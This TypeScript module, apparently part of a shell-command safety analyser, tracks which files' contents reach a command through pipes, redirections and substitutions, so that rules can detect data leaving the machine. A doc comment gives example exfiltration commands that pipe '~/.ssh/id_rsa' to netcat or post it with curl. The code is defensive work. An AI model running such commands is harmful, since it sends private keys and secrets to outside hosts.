import type { Cmd, Script, Word } from "./ir.js";
import { commandName } from "./downloads.js";
import { stdinFile } from "./evaluate-input.js";
import { WRAPPERS } from "./rules.js";

/**
 * Which files' contents reach a command, so that a rule can judge where they go
 * (`cat ~/.ssh/id_rsa | nc host 4444` sends the key as `curl -d @~/.ssh/id_rsa` does).
 */
export interface ContentsFed {
  /** Files read by the stages before it in its pipeline, or opened on its standard input (`< F`, `<<< "$(cat F)"`). */
  stdin: Word[];
  /** Files read by command substitutions in its arguments (`curl "…?k=$(cat F)"`). */
  arguments: Word[];
}

/** Commands that print their arguments, not the contents of files they name: only substitutions in them pass contents on. */
const PRINT_ARGUMENTS = new Set(["echo", "printf", "print"]);

/** Commands whose output tells about files (names, sizes, digests, counts) without their contents: what they read goes no further. */
const SUMMARIES = new Set([
  "ls", "stat", "wc", "du", "file", "test", "[", "realpath", "readlink", "basename", "dirname", "ssh-keygen",
  "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "sum", "shasum", "md5",
]);

export function contentsFed(args: readonly Word[], cmd: Cmd, upstream: readonly Cmd[]): ContentsFed {
  const stdin = [...pipelineFiles(upstream), ...openedOnStdin(cmd)];
  return { stdin, arguments: args.flatMap(substitutionFiles) };
}

/** Files whose contents come out of the last stage of a pipeline, followed back while each stage passes its input on. */
function pipelineFiles(stages: readonly Cmd[]): Word[] {
  const out: Word[] = [];
  for (let i = stages.length - 1; i >= 0; i--) {
    const stage = stages[i];
    if (!stage) break;
    const words = withoutWrappers(stage.argv);
    const name = words[0] && !words[0].dynamic ? commandName(words[0].text, false) : "";
    if (SUMMARIES.has(name)) break;
    out.push(...openedOnStdin(stage), ...words.slice(1).flatMap(substitutionFiles));
    if (!PRINT_ARGUMENTS.has(name)) out.push(...words.slice(1).filter((w) => !w.dynamic && !w.text.startsWith("-")));
  }
  return out;
}

/** The file a command's standard input is opened on, and files read by a here-string's substitutions. */
function openedOnStdin(cmd: Cmd): Word[] {
  const file = stdinFile(cmd);
  return [...(file && !file.processSub ? [file] : []), ...(file?.processSub ? substitutionFiles(file) : []), ...(cmd.stdinText ? substitutionFiles(cmd.stdinText) : [])];
}

function substitutionFiles(word: Word): Word[] {
  return word.subs.flatMap(scriptFiles);
}

function scriptFiles(script: Script): Word[] {
  return script.units.flatMap((unit) => (unit.kind === "pipeline" ? pipelineFiles(unit.stages) : []));
}

/** The words from the command a chain of wrappers runs (`sudo cat F` is `cat F`). */
function withoutWrappers(argv: readonly Word[]): readonly Word[] {
  let i = 0;
  while (i < argv.length) {
    const w = argv[i];
    if (!w || w.dynamic) break;
    if (w.text.startsWith("-") && i > 0) {
      i++;
      continue;
    }
    if (!(commandName(w.text, false) in WRAPPERS)) break;
    i++;
  }
  return argv.slice(i);
}
